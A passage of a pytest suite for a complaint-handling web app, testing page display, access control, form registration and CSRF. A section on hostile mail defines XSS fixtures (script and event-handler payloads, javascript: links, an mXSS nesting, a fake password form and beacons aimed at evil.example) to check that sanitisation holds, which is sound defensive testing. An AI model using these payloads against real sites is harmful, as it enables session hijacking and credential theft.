"""A complaint's page: what it shows to whom, and that nothing in a letter acts."""

import re
import threading
from collections.abc import Iterator
from datetime import timedelta
from html import unescape
from typing import TYPE_CHECKING
from zoneinfo import ZoneInfo

import pytest
import time_machine
from flask import Flask
from flask.testing import FlaskClient
from playwright.sync_api import expect
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session, sessionmaker
from werkzeug.serving import make_server

from complaints import clocks, history, off_board, registration
from complaints.blobs import Blobs
from complaints.clocks import Clock
from complaints.complaint import Complaint
from complaints.conversation import Entry
from complaints.database import transaction
from complaints.history import Change
from complaints.letters import Letter
from complaints.outbox import Outgoing
from complaints.people import SYSTEM, Actor
from complaints.procedure import procedure
from tests.builders import (
    MONDAY,
    PNG,
    a_complaint,
    a_department,
    a_file,
    a_letter,
    a_mailed_complaint,
    a_person,
    an_entry,
    withdrawable,
)
from tests.desk import CONTEXT, Desk
from tests.webapp.conftest import NOW, Browser, on_both_databases
from webapp.timeline import SENTENCES

if TYPE_CHECKING:
    from playwright.sync_api import Page

HERE = "/complaints/C-2026-0001"
SHANGHAI = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def clerk(make: sessionmaker[Session]) -> Actor:
    with transaction(make) as session:
        a_department(session)
        return a_person(session, "clerk")


@pytest.fixture
def desk(clerk: Actor, browser_of: Browser) -> FlaskClient:
    """The clerk's browser."""
    return browser_of(clerk)


def the_complaint(make: sessionmaker[Session], number: str = "C-2026-0001") -> Complaint:
    with make() as session:
        return session.scalars(select(Complaint).where(Complaint.number == number)).one()


def mailed(make: sessionmaker[Session], **letter: object) -> Complaint:
    with transaction(make) as session:
        return a_mailed_complaint(session, **letter)  # type: ignore[arg-type]


def registered(make: sessionmaker[Session], by: Actor, **letter: object) -> Complaint:
    with transaction(make) as session:
        complaint = a_mailed_complaint(session, **letter)  # type: ignore[arg-type]
        values, _ = registration.parse(an_entry(), rules=procedure(), today=MONDAY.date())
        at = MONDAY + timedelta(minutes=20)
        registration.register(session, complaint, values, by=by, at=at, seen_version=1, context=CONTEXT)
        return complaint


def visible(html: str) -> str:
    """A page as its reader sees it, roughly: without tags, spaces collapsed."""
    html = re.sub(r"(?s)<(style|script|datalist).*?</\1>", " ", html)
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())


def at_field(html: str, field: str) -> str:
    """The message that stands at a field."""
    found = re.search(rf'id="f-{field}-problem">(.*?)</p>', html, re.S)
    return visible(found[1]) if found else ""


# What it shows


@pytest.mark.requirement("S06")
@on_both_databases
def test_a_draft_shows_the_letter_its_files_and_the_form_prefilled(
    desk: FlaskClient, make: sessionmaker[Session], blobs: Blobs
) -> None:
    mailed(make, files=[a_file(blobs)])
    html = desk.get(HERE).text
    shown = visible(html)
    for text in ("C-2026-0001", "Not registered yet", "Ines Carrow", "i.carrow@quellstrom.example", "joint.png",
                 "lot L2608-114 failed the pressure test", "Draft opened from mail", "Issue the handling form",
                 "due Mon 16 Nov, 10:00", "30m left", "1h 30m left", "待登记"):  # fmt: skip
        assert text in shown
    assert re.search(r'id="f-complaint_date" name="complaint_date"[^>]* value="2026-11-16"', html)
    assert re.search(r'id="f-contact_email"[^>]* value="i.carrow@quellstrom.example"', html)
    assert '<textarea class="textarea textarea--6" id="f-content"' in html


def test_a_registered_complaint_shows_its_facts_its_clocks_and_what_happened(
    desk: FlaskClient, clerk: Actor, make: sessionmaker[Session], clock: time_machine.Traveller
) -> None:
    complaint = registered(make, clerk)
    with transaction(make) as session:
        history.note(session, complaint.id, "something_new", by=SYSTEM, at=NOW)
    clock.shift(timedelta(hours=1))
    shown = visible(desk.get(HERE).text)
    for text in ("Register no. 2026-0001", "Major", "Quellstrom Mobility", "HX-210 hydraulic fitting",
                 "林知夏 registered it under 2026-0001", "Notified: Quality", "met in 20m", "30m over",
                 "Redress : something_new"):  # fmt: skip
        assert text in shown
    assert "moved it" not in shown


@pytest.mark.parametrize(
    ("state", "says"),
    [
        ({"state": "pending"}, "Waiting to be sent"),
        ({"state": "pending", "attempts": 1, "error": "451 later", "due_at": NOW}, "Not sent yet; next try Mon 16 Nov"),
        ({"state": "sending", "lease_until": NOW}, "Being sent"),
        ({"state": "sent", "sent_at": NOW, "reply": "250 queued as 4F2A"}, "server answered: 250 queued as 4F2A"),
        ({"state": "failed", "error": "550 no such user"}, "the customer was not told. 550 no such user"),
        ({"state": "uncertain", "error": "dropped"}, "It is not certain that it arrived"),
    ],
)
def test_a_mail_of_ours_says_how_far_it_got(
    desk: FlaskClient, make: sessionmaker[Session], state: dict[str, object], says: str
) -> None:
    complaint = mailed(make)
    acknowledged(make, complaint, **state)
    assert says in visible(desk.get(HERE).text)


def acknowledged(make: sessionmaker[Session], complaint: Complaint, **state: object) -> None:
    values = {
        "purpose": f"ack:complaint:{complaint.id}", "kind": "acknowledgement", "complaint_id": complaint.id,
        "recipient": "i.carrow@quellstrom.example", "domain": "quellstrom.example", "locale": "en",
        "message_id": f"redress.{complaint.id}@mill.example", "references": [], "values": {}, "created_at": NOW,
        "due_at": NOW,
    }  # fmt: skip
    with transaction(make) as session:
        mail = Outgoing(**(values | state))
        session.add(mail)
        session.flush()
        session.add(Entry(complaint_id=complaint.id, kind="mail", at=mail.created_at, outgoing_id=mail.id))


def test_a_chinese_reader_reads_names_in_chinese_first(make: sessionmaker[Session], browser_of: Browser) -> None:
    with transaction(make) as session:
        reader = a_person(session, "clerk", locale="zh_CN")
        a_mailed_complaint(session)
    html = browser_of(reader).get(HERE).text
    assert '<span class="step__n">待登记</span><span class="step__zh" lang="en">Draft</span>' in html
    assert "发出处理单" in html


def test_quoted_lines_are_folded_and_a_long_letter_is_cut_until_asked_for(
    desk: FlaskClient, make: sessionmaker[Session]
) -> None:
    head = "On Mon, 9 Nov 2026 at 10:00, Lin <lin@mill.example> wrote:"
    complaint = mailed(make, text=f"The seal leaks.\n\n{head}\n> Thank you\n> for the order")
    with transaction(make) as session:
        long = a_letter(session, complaint, text="y" * 19_999 + "\n" + "the very end", message_id="b@c")
    html = desk.get(HERE).text
    assert "Earlier message, 3 lines" in visible(html)
    assert "Show the rest, 12 characters" in visible(html)
    assert "the very end" not in html
    assert "the very end" in desk.get(f"{HERE}?whole={long.id}").text


def test_folds_that_were_kept_are_honoured_wherever_they_stand(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    text = "> how many?\n14 of 200\n> since when?\nMonday\n-- \nInes"
    mailed(make, text=text, folds=[[0, 11, "quoted"], [22, 35, "quoted"], [43, 51, "signature"]])
    html = desk.get(HERE).text
    own = [visible(part) for part in re.findall(r'<div class="words"[^>]*>(.*?)</div>', html, re.S)]
    assert own == ["14 of 200", "Monday"]
    assert "Signature -- Ines" in visible(html)


@pytest.mark.parametrize("folds", [[[0, 999, "quoted"]], [[5, 5, "quoted"]], [[0, 3, "something_new"]]])
def test_no_fold_hides_a_text_for_good(desk: FlaskClient, make: sessionmaker[Session], folds: list[object]) -> None:
    mailed(make, text="The seal leaks.", folds=folds)
    assert " ".join(visible(desk.get(HERE).text).split()).count("seal leaks.") >= 1


def test_a_mail_that_was_cut_says_so(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make, defects=["text_cut"])
    assert "The mail is longer; download the original for the rest." in visible(desk.get(HERE).text)


def test_a_mail_inside_a_mail_is_shown_with_its_own_files_beneath(
    desk: FlaskClient, make: sessionmaker[Session], blobs: Blobs
) -> None:
    inside = {"from_name": "Ines", "from_address": "i@q.example", "subject": "<b>Leak</b>", "text": "https://q.example/",
              "date": "2026-11-16T01:00:00+00:00"}  # fmt: skip
    files = [
        a_file(blobs, b"mail", filename="leak.eml", content_type="message/rfc822", enclosed=inside),
        a_file(blobs, filename="photo.png", within=0),
        a_file(blobs, filename="orphan.png", within=7),
    ]
    mailed(make, files=files)
    html = desk.get(HERE).text
    assert "<b>Leak</b>" not in html
    assert "The mail inside <b>Leak</b> Ines <i@q.example> · Mon 16 Nov, 09:00 https://q.example/" in visible(html)
    assert re.search(r'leak\.eml.*<ul class="atts">.*photo\.png.*</ul>\s*</li>.*orphan\.png', html, re.S)


# Off the board, not reached, written to again


def test_a_record_that_is_for_invited_people_names_them_by_their_field(
    make: sessionmaker[Session], browser_of: Browser
) -> None:
    mailed(make)
    with transaction(make) as session:
        clerk = a_person(session, "clerk")
    page = visible(browser_of(clerk).get(f"{HERE}/records").text)
    assert "Marketing vice general manager, Invited" in page


@pytest.mark.parametrize(
    ("outcome", "said"),
    [
        (clocks.REPLACED, "replaced, the class changed"),
        (clocks.UNDONE, "its start was taken back"),
        (clocks.CANCELLED, "cancelled, it is not owed any more"),
        (clocks.MERGED, "ended when the complaint was merged"),
    ],
)
def test_a_clock_that_ended_without_being_met_says_why(
    desk: FlaskClient, make: sessionmaker[Session], outcome: str, said: str
) -> None:
    mailed(make)
    with transaction(make) as session:
        session.execute(update(Clock).values(stopped_at=NOW, outcome=outcome))
    page = visible(desk.get(HERE).text)
    assert said in page
    assert "left the board" not in page


@on_both_databases
def test_a_complaint_shows_what_was_merged_into_it_with_files_and_original(
    desk: FlaskClient, clerk: Actor, make: sessionmaker[Session], blobs: Blobs
) -> None:
    mailed(make, text="The first letter")
    with transaction(make) as session:
        other = a_mailed_complaint(session, text="The other letter", message_id="b@c", files=[a_file(blobs)])
    acknowledged(make, other, state="sent", sent_at=NOW, reply="250 OK")
    with transaction(make) as session:
        other = session.get_one(Complaint, other.id)
        into = session.scalars(select(Complaint).where(Complaint.number == "C-2026-0001")).one()
        off_board.take(
            session, other, off_board.MERGED, reason="the same lot", by=clerk, at=NOW, seen_version=1, into=into,
            context=CONTEXT,
        )  # fmt: skip
    page = desk.get(HERE).text
    for words in ("The first letter", "The other letter", "from C-2026-0002", "joint.png", "250 OK",
                  "林知夏 merged C-2026-0002 into it"):  # fmt: skip
        assert words in visible(page)
    assert desk.get(f"{HERE}/letters/2", headers={"HX-Request": "true"}).status_code == 200
    merged = visible(desk.get("/complaints/C-2026-0002").text)
    assert "Merged into C-2026-0001 : the same lot Decided by 林知夏" in merged
    assert "ended when the complaint was merged" in merged
    assert "Move to…" not in merged
    assert desk.post("/complaints/C-2026-0002/bring-back", data={"version": "2"}).status_code == 303
    assert "The other letter" not in visible(desk.get(HERE).text)


def test_what_is_off_the_board_cannot_be_registered(
    desk: FlaskClient, clerk: Actor, make: sessionmaker[Session]
) -> None:
    complaint = mailed(make)
    with transaction(make) as session:
        complaint = session.get_one(Complaint, complaint.id)
        withdrawable(session, complaint)
        off_board.take(
            session, complaint, off_board.WITHDRAWN, reason="solved", by=clerk, at=NOW, seen_version=1, context=CONTEXT
        )
    page = desk.get(HERE).text
    assert "Withdrawn : solved" in visible(page)
    assert 'name="complaint_class"' not in page
    answer = desk.post(f"{HERE}/registration", data=an_entry(version="2"))
    assert answer.status_code == 422
    assert the_complaint(make).registered_at is None


def test_a_customer_who_was_not_reached_is_told_of_on_page_and_card(
    desk: FlaskClient, make: sessionmaker[Session]
) -> None:
    complaint = mailed(make)
    bounced = {"bounced_at": NOW, "bounce_status": "5.1.1", "bounce_reason": "no such user"}
    acknowledged(make, complaint, state="sent", sent_at=MONDAY, reply="250 OK", **bounced)
    with transaction(make) as session:
        session.execute(update(Complaint).values(unreached_at=NOW))
        told = {"recipient": "i.carrow@quellstrom.example", "status": "5.1.1", "said": "no such user"}
        history.note(session, complaint.id, "bounce", by=SYSTEM, at=NOW, **told)
    page = visible(desk.get(HERE).text)
    assert "The customer was not reached : i.carrow@quellstrom.example, 5.1.1 no such user" in page
    assert "It came back Mon 16 Nov, 09:30 : the customer was not reached." in page
    assert "Our mail to i.carrow@quellstrom.example could not be delivered: no such user" in page
    assert "Not reached" in visible(desk.get("/board").text)


def test_a_letter_after_closing_proposes_to_reopen(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make)
    with transaction(make) as session:
        session.execute(update(Complaint).values(stage="closed", closed_at=MONDAY, reopening_proposed_at=NOW))
    html = desk.get(HERE).text
    assert "The customer wrote again after closing: reopen?" in visible(html)
    assert '<a href="/complaints/C-2026-0001/moves">Move it back…</a>' in html


@pytest.mark.parametrize("act", sorted(SENTENCES))
def test_every_act_has_its_sentence_even_with_nothing_to_say(
    desk: FlaskClient, make: sessionmaker[Session], act: str
) -> None:
    complaint = mailed(make)
    with transaction(make) as session:
        history.note(session, complaint.id, act, by=SYSTEM, at=NOW)
    assert desk.get(HERE).status_code == 200


# To whom


@pytest.mark.requirement("S12")
@on_both_databases
def test_a_stranger_gets_the_same_404_as_for_no_complaint(make: sessionmaker[Session], browser_of: Browser) -> None:
    with transaction(make) as session:
        complaint, stranger = a_mailed_complaint(session), a_person(session, "dept")
        letter = session.scalars(select(Letter)).one()
        a_person(session, "clerk")
    assert complaint.number == "C-2026-0001"
    browser = browser_of(stranger)
    nothing = browser.get("/complaints/C-2026-0999")
    for path in ("", f"/letters/{letter.id}", f"/letters/{letter.id}/html", f"/letters/{letter.id}/raw"):
        answer = browser.get(HERE + path)
        assert (answer.status_code, visible(answer.text)) == (404, visible(nothing.text))
    for path in ("/registration", "/entry"):
        assert browser.post(HERE + path, data=an_entry(version="1")).status_code == 404
    assert the_complaint(make).version == 1


def test_a_letter_is_shown_on_its_own_complaint_only(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make)
    other = mailed(make, message_id="b@c", text="Another matter")
    with make() as session:
        letter = session.scalars(select(Letter).where(Letter.complaint_id == other.id)).one()
    assert desk.get(f"/complaints/{other.number}/letters/{letter.id}/html").status_code == 200
    assert desk.get(f"{HERE}/letters/{letter.id}/html").status_code == 404


# Nothing in a letter acts

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>
<link rel="stylesheet" href="https://evil.example/c.css">
<script>top.hacked = 1; document.title = "hacked"</script></head>
<body onload="top.hacked = 2">
<p hx-get="/logout" hx-trigger="load" data-hx-post="/logout" id="main" class="topbar">Hello</p>
<img src="x" onerror="top.hacked = 3"><svg onload="top.hacked = 4"><animate onbegin="top.hacked = 5"/></svg>
<img src="https://evil.example/pixel.gif"><img src="//evil.example/2.gif"><img src="cid:joint@quellstrom.example">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<a href="javascript:top.hacked = 6" id="trap">press</a> <a href="https://quellstrom.example/report">report</a>
<math><mtext><table><mglyph><style><img src=x onerror="top.hacked = 7"></style></mglyph></table></mtext></math>
<div style="position:fixed;inset:0;background:url('https://evil.example/d.png')">over everything</div></body></html>"""


def test_a_hostile_letter_is_text_until_asked_for_and_safe_then(
    desk: FlaskClient, make: sessionmaker[Session], blobs: Blobs
) -> None:
    picture = a_file(blobs, content_id="joint@quellstrom.example", inline=True)
    hostile = '<b hx-get="/logout" hx-trigger="load">Dear</b> <script>alert(1)</script> javascript:alert(2)'
    name, subject = "<img src=x>", "<script>alert(3)</script>"
    mailed(make, files=[picture], html=HOSTILE, text=hostile, subject=subject, from_name=name)
    page = desk.get(HERE).text
    assert "<script>alert" not in page
    assert "<img src=x>" not in page
    assert "&lt;b hx-get=" in page
    assert "iframe" not in page
    assert 'href="javascript:' not in page
    assert re.search(r'<div class="words" hx-disable[^>]*>&lt;b hx-get', page)

    asked = desk.get(f"{HERE}?formatted=1").text
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in asked
    assert "pictures from elsewhere were not loaded" in visible(asked)

    answer = desk.get(f"{HERE}/letters/1/html")
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox ")
    assert "default-src 'none'" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    body = answer.text.partition("<body>")[2]
    traces = "script onerror onload hx- evil.example iframe <form <svg javascript: fixed id="
    assert [trace for trace in traces.split() if trace in body] == []
    assert "https://quellstrom.example/report" in body


def test_remote_pictures_are_counted_and_the_letters_own_are_shown(
    desk: FlaskClient, app: Flask, make: sessionmaker[Session], blobs: Blobs, clock: time_machine.Traveller
) -> None:
    html = "".join(f'<img src="{each}">' for each in ("https://t.example/1", "//t.example/2", "cid:joint", "cid:page"))
    files = [
        a_file(blobs, content_id="joint", inline=True),
        a_file(blobs, b"<svg/>", content_id="page", content_type="image/svg+xml", filename="page.svg"),
    ]
    mailed(make, html=html, files=files)
    fragment = desk.get(f"{HERE}/letters/1?as=formatted", headers={"HX-Request": "true"})
    assert "3 pictures from elsewhere were not loaded." in visible(fragment.text)
    assert "<html" not in fragment.text
    sources = re.findall(r'src="([^"]+)"', desk.get(f"{HERE}/letters/1/html").text.partition("<body>")[2])
    assert len(sources) == 1
    anybody = app.test_client()  # a sandboxed document sends no cookies
    shown = anybody.get(unescape(sources[0]))
    assert (shown.status_code, shown.data, shown.mimetype) == (200, PNG, "image/png")
    clock.shift(timedelta(minutes=11))
    assert anybody.get(unescape(sources[0])).status_code == 404
    assert anybody.get(unescape(sources[0])[:-2] + "xx").status_code == 404


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("see https://a.example/x?y=1&z=2.", "https://a.example/x?y=1&amp;z=2"),
        ("请看https://a.example/报告", "https://a.example/"),
        ("(http://a.example/a_(b))", "http://a.example/a_(b)"),
        ("mailto:q@a.example,", "mailto:q@a.example"),
    ],
)
def test_addresses_in_a_text_become_links(desk: FlaskClient, make: sessionmaker[Session], text: str, link: str) -> None:
    mailed(make, text=text)
    page = desk.get(HERE).text
    assert f'<a href="{link}" target="_blank" rel="noopener noreferrer nofollow">{link}</a>' in page


def test_an_address_cannot_break_out_of_its_link(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(
        make,
        text='https://a.example/"onmouseover="alert(1) https://b.example/<script> data:text/html,x ftp://c.example/',
    )
    page = desk.get(HERE).text
    found = re.search(r'<div class="words"[^>]*>(.*?)</div>', page, re.S)
    assert found
    assert re.findall(r"<a [^>]*>", found[1]) == [
        f'<a href="https://{host}.example/" target="_blank" rel="noopener noreferrer nofollow">' for host in "ab"
    ]


@pytest.fixture
def served(app: Flask) -> Iterator[str]:
    """The application behind a real port."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, args=[0.05], daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()


def test_a_browser_finds_nothing_to_run_in_a_hostile_letter(
    served: str, desk: FlaskClient, make: sessionmaker[Session], blobs: Blobs, page: "Page"
) -> None:
    picture = a_file(blobs, content_id="joint@quellstrom.example", inline=True)
    mailed(make, files=[picture], html=HOSTILE, text="Dear all", from_name='"><script>top.hacked = 9</script>')
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    cookie = desk.get_cookie("redress")
    assert cookie
    page.context.add_cookies([{"name": "redress", "value": cookie.value, "url": served}])
    page.goto(served + HERE)
    page.get_by_text("Show formatted").click()
    frame = page.frame_locator("iframe.mailframe")
    frame.get_by_text("press").click()
    # The picture of the letter itself is there, though the document sends no cookies.
    expect(frame.locator("img[src]")).to_have_js_property("naturalWidth", 1)
    assert page.evaluate("window.hacked === undefined")
    assert frame.locator("body").evaluate("() => window.origin") == "null"
    assert all(url.startswith(served) for url in asked)
    page.get_by_text("Show as text").click()
    page.get_by_text("Show formatted").wait_for()


def test_the_original_is_handed_out_byte_for_byte(desk: FlaskClient, make: sessionmaker[Session], blobs: Blobs) -> None:
    raw = b"From: i.carrow@quellstrom.example\r\n\r\nDear all\x00\xff"
    mailed(make, raw=blobs.put(raw))
    answer = desk.get(f"{HERE}/letters/1/raw")
    assert answer.data == raw
    assert answer.mimetype == "message/rfc822"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="C-2026-0001-1.eml"')
    assert "sandbox" in answer.headers["Content-Security-Policy"]


# Registering


@pytest.mark.requirement("S05", "S12")
@on_both_databases
def test_a_clerk_registers_a_draft(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make)
    answer = desk.post(f"{HERE}/registration", data=an_entry(version="1"))
    assert (answer.status_code, answer.location) == (303, HERE)
    complaint = the_complaint(make)
    assert (complaint.stage, complaint.register_no) == ("registered", "2026-0001")
    shown = visible(desk.get(HERE).text)
    assert "C-2026-0001 is registered under 2026-0001." in shown
    assert "Register no. 2026-0001" in shown


@pytest.mark.requirement("S09")
@pytest.mark.parametrize(
    ("field", "says"),
    [
        ("customer", "Customer is missing"),
        ("complaint_date", "Complaint date is missing"),
        ("content", "Complaint content is missing"),
        ("complaint_class", "Class is missing"),
        ("cause_type", "Cause type is missing"),
        ("link", "Link is missing"),
    ],
)
def test_without_a_required_field_the_form_comes_back_with_a_message_at_it(
    desk: FlaskClient, make: sessionmaker[Session], field: str, says: str
) -> None:
    mailed(make, text="")
    typed = an_entry(version="1", batch="L2608 <b>", demand="8D\r\nsoon") | {field: "  "}
    answer = desk.post(f"{HERE}/registration", data=typed)
    assert answer.status_code == 422
    assert at_field(answer.text, field) == says
    assert answer.text.count('aria-invalid="true"') == 1
    assert f'<a href="#f-{field}">' in answer.text
    assert 'value="L2608 &lt;b&gt;"' in answer.text
    assert "8D\nsoon</textarea>" in answer.text
    complaint = the_complaint(make)
    assert (complaint.stage, complaint.version, complaint.batch) == ("draft", 1, "")


def test_what_is_wrong_and_what_is_missing_is_said_together(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make)
    typed = an_entry(version="1", ship_date="soon", contact_email="nobody", customer="", order_no="")
    answer = desk.post(f"{HERE}/registration", data=typed)
    assert answer.status_code == 422
    assert at_field(answer.text, "ship_date") == "Ship date must be a date such as 2026-09-17"
    assert at_field(answer.text, "contact_email") == "This is not an e-mail address"
    assert at_field(answer.text, "customer") == "Customer is missing"
    assert at_field(answer.text, "order_no") == "Order no. is missing"
    assert 'value="soon"' in answer.text


def test_a_draft_is_saved_unfinished(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make)
    typed = an_entry(version="1", customer="", cause_type="", batch="L2608-114")
    assert desk.post(f"{HERE}/entry", data=typed).status_code == 303
    complaint = the_complaint(make)
    assert (complaint.stage, complaint.batch, complaint.version) == ("draft", "L2608-114", 2)


@on_both_databases
def test_who_comes_late_keeps_what_was_typed_and_sees_what_is_stored(
    desk: FlaskClient, make: sessionmaker[Session], browser_of: Browser
) -> None:
    mailed(make)
    with transaction(make) as session:
        colleague = a_person(session, "sales", name="Owen Talbeck")
    browser_of(colleague).post(f"{HERE}/entry", data=an_entry(version="1", customer="澄岫液压", batch="L1"))
    answer = desk.post(f"{HERE}/registration", data=an_entry(version="1", customer="Mine AG", contact_phone="0123"))
    assert answer.status_code == 409
    assert 'value="Mine AG"' in answer.text
    assert 'value="0123"' in answer.text
    newest = re.findall(r'id="f-(\w+)-newest"[^>]*>(.*?)</p>', answer.text, re.S)
    assert [(name, visible(text)) for name, text in newest] == [("customer", "Now stored: 澄岫液压")]
    assert 'name="version" value="2"' in answer.text
    assert the_complaint(make).stage == "draft"
    again = desk.post(f"{HERE}/registration", data=an_entry(version="2", customer="Mine AG"))
    assert again.status_code == 303
    # A form that is refused for its own faults does not take the newest version by the way.
    stale = desk.post(f"{HERE}/entry", data=an_entry(version="2", ship_date="soon"))
    assert 'name="version" value="2"' in stale.text


def test_a_double_click_on_register_registers_once(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make)
    for _ in range(2):
        assert desk.post(f"{HERE}/registration", data=an_entry(version="1")).status_code == 303
    with make() as session:
        assert session.scalar(select(func.count()).select_from(Change).where(Change.act == "registered")) == 1


def test_a_refused_move_links_to_a_field_that_is_there(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    mailed(make)
    page = desk.get(HERE).text
    refused = desk.post(f"{HERE}/move", data={"stage": "registered", "version": "1"}).text
    fields = set(re.findall(rf'href="{HERE}#(f-\w+)"', refused))
    assert fields >= {"f-customer", "f-cause_type"}
    assert all(f'id="{field}"' in page for field in fields)


# The acknowledgement that intake held back


def owed(make: sessionmaker[Session]) -> list[tuple[str, str]]:
    with make() as session:
        return [(mail.recipient, mail.purpose) for mail in session.scalars(select(Outgoing))]


def test_a_letter_that_was_not_acknowledged_is_when_it_is_registered(
    desk: FlaskClient, make: sessionmaker[Session]
) -> None:
    complaint = mailed(make, verdict="failed")
    desk.post(f"{HERE}/registration", data=an_entry(version="1"))
    assert owed(make) == [("i.carrow@quellstrom.example", f"ack:complaint:{complaint.id}")]


def test_registering_acknowledges_nothing_twice_nothing_old_and_no_call(
    desk: FlaskClient, make: sessionmaker[Session]
) -> None:
    acknowledged(make, mailed(make))
    mailed(make, at=MONDAY - timedelta(days=3), message_id="old@x")
    desk.post(f"{HERE}/registration", data=an_entry(version="1"))
    desk.post("/complaints/C-2026-0002/registration", data=an_entry(version="1"))
    desk.post("/complaints/new", data=an_entry(channel="phone", key="a key of its own", act="register"))
    assert the_complaint(make, "C-2026-0002").registered_at == the_complaint(make).registered_at == NOW
    assert len(owed(make)) == 1


# By hand


@pytest.mark.requirement("S02", "S05")
@pytest.mark.parametrize("channel", ["phone", "letter", "oral"])
def test_a_clerk_registers_what_came_by_hand(desk: FlaskClient, make: sessionmaker[Session], channel: str) -> None:
    key = re.search(r'name="key" value="([^"]+)"', desk.get("/complaints/new").text)
    assert key
    form = an_entry(channel=channel, received_at="2026-11-16T08:50", key=key[1], act="register")
    answer = desk.post("/complaints/new", data=form)
    assert (answer.status_code, answer.location) == (303, HERE)
    complaint = the_complaint(make)
    assert (complaint.channel, complaint.register_no) == (channel, "2026-0001")
    assert complaint.received_at == MONDAY - timedelta(minutes=10)
    shown = visible(desk.get(HERE).text)
    assert "14 of 200 joints failed" in shown
    assert "as noted by 林知夏" in shown


@pytest.mark.requirement("S04")
@on_both_databases
def test_a_production_user_notes_a_call_and_the_clerk_registers_it(
    desk: FlaskClient, make: sessionmaker[Session], browser_of: Browser
) -> None:
    with transaction(make) as session:
        person = a_person(session, "staff", name="赵拓")
    production = browser_of(person)
    form = production.get("/complaints/new").text
    assert 'value="register"' not in form
    assert "Registering is done by: Marketing clerk" in visible(form)
    note = {"channel": "phone", "content": "Mr Wu says the seal is oily.", "contact_person": "Wu", "act": "draft"}
    answer = production.post("/complaints/new", data=note)
    assert (answer.status_code, answer.location) == (303, HERE)
    assert "Mr Wu says the seal is oily." in production.get(HERE).text

    refused = production.post(f"{HERE}/registration", data=an_entry(version="1"))
    assert refused.status_code == 403
    assert "Ask Marketing clerk" in visible(refused.text)
    assert production.post("/complaints/new", data=an_entry(**note) | {"act": "register"}).status_code == 403
    assert the_complaint(make).stage == "draft"

    assert "C-2026-0001" in desk.get("/board").text
    assert desk.post(f"{HERE}/registration", data=an_entry(version="1")).status_code == 303


@on_both_databases
def test_the_same_form_sent_twice_makes_one_complaint(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    form = an_entry(channel="phone", key="a key of its own", act="draft")
    assert desk.post("/complaints/new", data=form).location == HERE
    assert desk.post("/complaints/new", data=form).location == HERE
    # Back, one more word, and registered: still the same one.
    assert desk.post("/complaints/new", data=form | {"batch": "L1", "act": "register"}).location == HERE
    assert desk.post("/complaints/new", data=form | {"batch": "L2"}).location == HERE
    with make() as session:
        assert session.scalar(select(func.count()).select_from(Complaint)) == 1
    complaint = the_complaint(make)
    assert (complaint.register_no, complaint.batch) == ("2026-0001", "L1")


def test_a_form_by_hand_comes_back_with_what_was_typed(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    form = an_entry(channel="letter", received_at="2026-11-17T08:00", customer="", key="a key of its own")
    answer = desk.post("/complaints/new", data=form | {"departments": "1", "act": "register"})
    assert answer.status_code == 422
    assert at_field(answer.text, "received_at") == "Received at lies in the future"
    assert at_field(answer.text, "customer") == "Customer is missing"
    assert '<option value="letter" selected>' in answer.text
    assert 'value="2026-11-17T08:00"' in answer.text
    assert 'name="key" value="a key of its own"' in answer.text
    with make() as session:
        assert session.scalar(select(func.count()).select_from(Complaint)) == 0


def test_every_form_carries_its_token(
    app: Flask, clerk: Actor, browser_of: Browser, make: sessionmaker[Session]
) -> None:
    mailed(make)
    app.config["WTF_CSRF_ENABLED"] = True
    desk = browser_of(clerk)
    for path in (HERE, "/complaints/new"):
        html = desk.get(path).text
        assert html.count('name="csrf_token"') == html.count("<form")
    assert desk.post(f"{HERE}/entry", data=an_entry(version="1")).status_code == 400
    token = re.search(r'name="csrf_token" value="([^"]+)"', desk.get(HERE).text)
    assert token
    assert desk.post(f"{HERE}/entry", data=an_entry(version="1", csrf_token=token[1])).status_code == 303


def test_without_a_content_nothing_is_noted(desk: FlaskClient) -> None:
    answer = desk.post("/complaints/new", data={"channel": "phone", "content": " ", "act": "draft"})
    assert answer.status_code == 422
    assert at_field(answer.text, "content") == "Complaint content is missing"


def test_looking_changes_nothing(desk: FlaskClient, make: sessionmaker[Session]) -> None:
    complaint = mailed(make)
    for path in (HERE, f"{HERE}?formatted=1", f"{HERE}/letters/1", f"{HERE}/letters/1/html", "/complaints/new"):
        assert desk.get(path).status_code in (200, 302)
    assert the_complaint(make).unread_count == complaint.unread_count == 1
    with make() as session:
        assert session.scalar(select(func.count()).select_from(Entry)) == 1


def test_a_draft_by_hand_of_another_department_is_not_yours(make: sessionmaker[Session], browser_of: Browser) -> None:
    with transaction(make) as session:
        one, other = a_person(session, "staff"), a_person(session, "staff")
        a_complaint(session, by=one, channel="phone", content="It leaks")
        session.execute(update(Complaint).values(unread_count=0))
    assert browser_of(one).get(HERE).status_code == 200
    assert browser_of(other).get(HERE).status_code == 404


def test_further_departments_are_notified_later(app: Flask, browser_of: Browser, make: sessionmaker[Session]) -> None:
    desk = Desk(make)
    number = desk.registered()
    with transaction(make) as session:
